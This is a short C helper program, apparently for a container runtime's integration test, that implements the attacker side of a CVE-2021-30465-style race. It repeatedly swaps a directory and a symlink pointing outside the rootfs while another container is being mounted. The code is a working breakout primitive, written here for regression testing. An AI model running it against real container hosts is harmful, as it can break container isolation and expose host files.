// The attacker's half of a CVE-2021-30465 style race, for
// tests/integration/breakout.bats: run (in a container sharing DIR with
// another container's mounts) as
//   swap DIR TARGET SECONDS
// it makes DIR/d a directory and DIR/l a symlink to TARGET, then exchanges
// the two names atomically in a tight loop for SECONDS, so that DIR/d is
// now a directory, now a symlink out of the rootfs, while the other
// container's runtime mounts on it. Prints "swapped N times" at the end.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc != 4) { fprintf(stderr, "usage: swap DIR TARGET SECONDS\n"); return 2; }
  if (chdir(argv[1]) != 0) { perror("chdir"); return 1; }
  if (mkdir("d", 0755) != 0 || symlink(argv[2], "l") != 0) { perror("make d and l"); return 1; }
  time_t end = time(NULL) + atoi(argv[3]);
  long n = 0;
  while (time(NULL) < end)
    for (int i = 0; i < 1000; ++i)
      if (renameat2(AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE) == 0) ++n;
  printf("swapped %ld times\n", n);
  return 0;
}
